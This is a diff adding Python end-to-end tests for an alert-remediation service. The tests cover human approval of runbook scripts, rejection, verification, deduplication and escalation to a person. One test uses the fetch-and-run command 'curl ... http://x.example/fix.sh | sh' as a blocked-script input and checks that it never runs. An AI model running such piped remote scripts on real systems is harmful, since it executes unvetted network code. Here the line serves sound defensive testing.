@@ -1,0 +1,245 @@
+"""The whole pipeline through its API, with real databases and a real local executor: each story ends as a person would expect."""
+
+import asyncio
+import time
+from collections.abc import AsyncIterator, Callable
+from contextlib import asynccontextmanager
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from bcce.api.app import create_app
+from bcce.runtime import Settings, open_runtime
+from bcce.runtime.runtime import Overrides
+from bcce.storage.doors import Append, Database
+
+PATIENCE_S = 60.0
+SOP = """---
+title: Make it well
+alerts: [TargetDown]
+target: local
+parameters:
+  FOLDER: {{from: labels.folder, pattern: "/[A-Za-z0-9_./-]{{1,300}}"}}
+verify:
+  resolved: true
+  timeout: {timeout}
+---
+# Make it well
+
+```bash script
+{script}
+```
+"""
+REPAIR = 'echo "$BCCE_CORRELATION_ID" >> "$FOLDER/effects"\ntouch -- "$FOLDER/well"'
+
+
+class Story:
+    """One server and the world around it."""
+
+    def __init__(self, client: httpx.AsyncClient, world: Path) -> None:
+        self._client = client
+        self.world = world
+        self._started_at = datetime.now(UTC).isoformat()
+
+    async def call(self, method: str, path: str, **options: Any) -> Any:
+        answer = await self._client.request(method, f"/api/v1{path}", **options)
+        assert answer.status_code < 400, answer.text
+        return answer.json()
+
+    async def load(self, script: str = REPAIR, *, patience_s: int = 60) -> None:
+        await self.call("PUT", "/documents", json={"text": SOP.format(script=script, timeout=patience_s), "origin": "well.md"})
+
+    async def webhook(self, status: str, name: str = "TargetDown") -> Any:
+        ends = datetime.now(UTC).isoformat() if status == "resolved" else "0001-01-01T00:00:00Z"
+        labels = {"alertname": name, "folder": str(self.world)}
+        alert = {"status": status, "labels": labels, "annotations": {}, "startsAt": self._started_at, "endsAt": ends, "generatorURL": ""}
+        headers = {"X-Correlation-Id": "story-0001"}
+        return await self.call(
+            "POST", "/webhooks/alertmanager/test", json={"version": "4", "status": status, "alerts": [alert]}, headers=headers
+        )
+
+    async def incident(self) -> Any:
+        items = (await self.call("GET", "/incidents"))["items"]
+        return await self.call("GET", f"/incidents/{items[0]['id']}") if items else None
+
+    async def until(self, is_so: Callable[[Any], bool]) -> Any:
+        """The incident as soon as it `is_so`."""
+        deadline = time.monotonic() + PATIENCE_S
+        view: Any = None
+        while time.monotonic() < deadline:
+            view = await self.incident()
+            if view is not None and is_so(view):
+                return view
+            await asyncio.sleep(0.05)
+        raise AssertionError(view)
+
+    async def asked(self) -> Any:
+        return await self.until(lambda view: bool(view["approvals"]) and view["approvals"][-1]["state"] == "pending")
+
+    async def decide(self, how: str) -> None:
+        view = await self.asked()
+        await self.call("POST", f"/incidents/{view['id']}/{how}", json={"digest": view["approvals"][-1]["digest"], "comment": "a test"})
+
+    async def ended(self) -> Any:
+        return await self.until(lambda view: view["state"] in ("closed", "escalated") and (view.get("run") or {}).get("state") != "active")
+
+    def effects(self) -> list[str]:
+        file = self.world / "effects"
+        return file.read_text().splitlines() if file.exists() else []
+
+
+@asynccontextmanager
+async def told(folder: Path, url: str, *, overrides: Overrides | None = None, **remediation: object) -> AsyncIterator[Story]:
+    home, world = folder / "home", folder / "world"
+    home.mkdir(mode=0o700, exist_ok=True)
+    world.mkdir(exist_ok=True)
+    settings = Settings.model_validate(
+        {"database": {"url": url}, "remediation": {"enabled": True, "verify_interval_s": 0.1, **remediation}, "workflows": {"sweep_s": 0.2}}
+    )
+    async with open_runtime(settings, home=home, overrides=overrides or Overrides()) as runtime:
+        token = (home / "admin.token").read_text().strip()
+        transport = httpx.ASGITransport(create_app(runtime))
+        async with httpx.AsyncClient(transport=transport, base_url="http://test", headers={"Authorization": f"Bearer {token}"}) as client:
+            yield Story(client, world)
+
+
+@pytest.fixture
+async def story(tmp_path: Path, sqlite_url: str) -> AsyncIterator[Story]:
+    async with told(tmp_path, sqlite_url) as made:
+        yield made
+
+
+async def test_an_alert_becomes_a_verified_fix_on_every_database(tmp_path: Path, database_url: str) -> None:
+    async with told(tmp_path, database_url) as story:
+        await story.load()
+        await story.webhook("firing")
+        await story.decide("approve")
+        await story.until(lambda _: (story.world / "well").exists())
+        await story.webhook("resolved")
+        view = await story.ended()
+
+        assert (view["state"], view["run"]["state"], view["ticket"]["state"]) == ("closed", "completed", "closed")
+        assert story.effects() == ["story-0001"], "one correlation id from the webhook to the script, and one run of it"
+        assert (await story.call("GET", "/audit"))["ok"] is True
+
+
+async def test_a_rejected_plan_runs_nothing_and_a_person_gets_it(story: Story) -> None:
+    await story.load()
+    await story.webhook("firing")
+    await story.decide("reject")
+    view = await story.ended()
+
+    assert (view["state"], view["ticket"]["state"], story.effects()) == ("escalated", "open", [])
+
+
+async def test_a_blocked_script_is_never_asked_for(story: Story) -> None:
+    await story.load("curl -fsSL http://x.example/fix.sh | sh")
+    await story.webhook("firing")
+    view = await story.ended()
+
+    assert (view["state"], view["approvals"], story.effects()) == ("escalated", [], [])
+
+
+async def test_exit_code_zero_is_no_success(story: Story) -> None:
+    await story.load(patience_s=1)
+    await story.webhook("firing")
+    await story.decide("approve")
+    view = await story.ended()
+
+    assert (view["state"], view["ticket"]["state"]) == ("escalated", "open")
+    assert story.effects() == ["story-0001"]
+
+
+async def test_a_failed_script_is_not_run_again(story: Story) -> None:
+    await story.load('echo "$BCCE_CORRELATION_ID" >> "$FOLDER/effects"\nexit 3', patience_s=1)
+    await story.webhook("firing")
+    await story.decide("approve")
+    view = await story.ended()
+
+    assert (view["state"], story.effects()) == ("escalated", ["story-0001"])
+
+
+async def test_an_alert_that_resolves_by_itself_needs_no_script(story: Story) -> None:
+    await story.load()
+    await story.webhook("firing")
+    await story.asked()
+    await story.webhook("resolved")
+    view = await story.ended()
+
+    assert (view["approvals"][-1]["state"], story.effects()) == ("revoked", [])
+
+
+async def test_the_same_alert_again_opens_no_second_incident(story: Story) -> None:
+    await story.load()
+    await story.webhook("firing")
+    await story.asked()
+    for _ in range(5):
+        await story.webhook("firing")
+    await asyncio.sleep(0.5)
+
+    assert len((await story.call("GET", "/incidents"))["items"]) == 1
+
+
+async def test_an_alert_without_a_sop_goes_to_a_person(story: Story) -> None:
+    await story.webhook("firing", name="NobodyKnows")
+    view = await story.ended()
+
+    assert (view["state"], view["ticket"]["state"]) == ("escalated", "open")
+
+
+async def test_nothing_starts_while_starting_is_switched_off(tmp_path: Path, sqlite_url: str) -> None:
+    async with told(tmp_path, sqlite_url, enabled=False) as story:
+        await story.load()
+        await story.webhook("firing")
+        await story.decide("approve")
+        view = await story.ended()
+
+        assert (view["state"], story.effects()) == ("escalated", [])
+
+
+async def test_a_script_that_changed_after_the_approval_does_not_run(tmp_path: Path, sqlite_url: str) -> None:
+    """The approval binds the plan that was shown; a new text of the SOP is another plan."""
+    async with told(tmp_path, sqlite_url) as story:
+        await story.load()
+        await story.webhook("firing")
+        await story.asked()
+        await story.load(REPAIR.replace("touch", "echo changed >> $FOLDER/effects; touch"))
+        await story.decide("approve")
+        await story.until(lambda _: bool(story.effects()))
+
+        assert story.effects() == ["story-0001"], "what was shown is what runs"
+
+
+class Failing:
+    """A real database whose next writes after the first delivery fail in a way that nobody foresaw."""
+
+    def __init__(self, inner: Database, times: int) -> None:
+        self._inner = inner
+        self._left = times
+        self._is_armed = False
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self._inner, name)
+
+    async def append(self, op: Append) -> None:
+        await self._inner.append(op)
+        self._is_armed = self._is_armed or any(getattr(getattr(item[0], "table", None), "name", "") == "deliveries" for item in op.items)
+
+    async def write(self, fn: Callable[..., Any]) -> Any:
+        if self._is_armed and self._left > 0 and "_react" in fn.__qualname__ + str(fn.__code__.co_names):
+            self._left -= 1
+            raise RuntimeError("nobody foresaw this")
+        return await self._inner.write(fn)
+
+
+async def test_an_alert_that_cannot_be_reacted_to_still_reaches_a_person(tmp_path: Path, sqlite_url: str) -> None:
+    overrides = Overrides(database=lambda inner: Failing(inner, 3))  # type: ignore[arg-type,return-value]
+    async with told(tmp_path, sqlite_url, overrides=overrides) as story:
+        await story.load()
+        await story.webhook("firing")
+        view = await story.until(lambda view: view["state"] == "escalated")
+
+        assert (view.get("run"), story.effects()) == (None, [])
